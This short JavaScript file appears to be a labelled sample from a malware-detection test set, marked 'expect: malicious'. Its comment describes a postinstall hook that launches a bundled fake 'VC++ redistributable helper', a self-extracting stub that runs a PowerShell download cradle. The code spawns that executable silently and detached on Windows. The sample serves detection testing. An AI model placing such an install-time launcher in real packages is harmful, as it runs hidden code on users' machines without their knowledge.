// expect: malicious
// source: blind set 43's VC++ check: the postinstall starts a bundled "redistributable helper", a WinRAR SFX stub whose
// comment's Setup= line runs a PowerShell download cradle; written here
const { spawn } = require('child_process');
const path = require('path');
if (process.platform === 'win32') spawn(path.join(__dirname, '..', 'vendor', 'vc_redist_helper.exe'), ['-s'], { detached: true });
